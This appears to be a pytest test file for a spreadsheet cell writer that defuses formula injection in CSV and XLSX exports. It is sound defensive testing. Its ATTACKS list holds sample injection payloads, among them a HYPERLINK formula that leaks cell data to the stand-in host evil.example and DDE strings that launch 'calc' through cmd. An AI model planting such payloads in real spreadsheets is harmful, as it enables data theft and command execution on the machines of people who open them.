"""The spreadsheet-safe cell writer: formula-like text is defused, numbers stay numbers, and
the guard can be undone exactly."""

import io
from decimal import Decimal

import pytest
from openpyxl import Workbook, load_workbook

from shopwindow.core.spreadsheets import (
    FORMULA_TRIGGERS,
    append_row,
    csv_text,
    safe_cell,
    unguard_cell,
    workbook_bytes,
)

ATTACKS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", ATTACKS)
def test_formula_like_text_gets_an_apostrophe(text: str) -> None:
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", [-12.5, -3, Decimal("-7.25"), "-12.5", "-3", "+4", 0, None])
def test_numbers_stay_as_they_are(value: object) -> None:
    assert safe_cell(value) == value


@pytest.mark.parametrize("text", ["Pension strain", "a=b", " =1", "'quoted'", ""])
def test_ordinary_text_is_untouched(text: str) -> None:
    assert safe_cell(text) == text


TEXTS = [*ATTACKS, "", "'", "''", "'=", "''=x", "=", "-", "-1", "--1", "'-1", "plain", "a'=b", "\t"]


@pytest.mark.parametrize("text", TEXTS)
def test_the_guard_can_be_undone_exactly(text: str) -> None:
    guarded = safe_cell(text)
    assert unguard_cell(guarded) == text
    assert not (guarded[:1] in FORMULA_TRIGGERS and guarded != text)


def test_text_already_starting_with_an_apostrophe_stays_unambiguous() -> None:
    assert safe_cell("'=1") == "''=1"
    assert unguard_cell("''=1") == "'=1"
    assert unguard_cell("'plain") == "'plain"


def test_csv_text_guards_every_cell() -> None:
    text = csv_text(["a", "b"], [["=1+1", -5], ["ok", "@x"]])
    assert text == "a,b\r\n'=1+1,-5\r\nok,'@x\r\n"


def test_xlsx_rows_are_text_never_formulas_and_numbers_stay_numbers() -> None:
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    for attack in ATTACKS:
        append_row(sheet, [attack, -12.5])
    loaded = load_workbook(io.BytesIO(workbook_bytes(book)))
    for row in loaded.active.iter_rows():
        assert row[0].data_type == "s"
        assert row[0].value[:1] not in FORMULA_TRIGGERS
        assert row[1].data_type == "n"
        assert row[1].value == -12.5


def test_workbook_bytes_depend_only_on_content() -> None:
    def build() -> bytes:
        book = Workbook()
        append_row(book.active, ["same"])
        return workbook_bytes(book)

    assert build() == build()
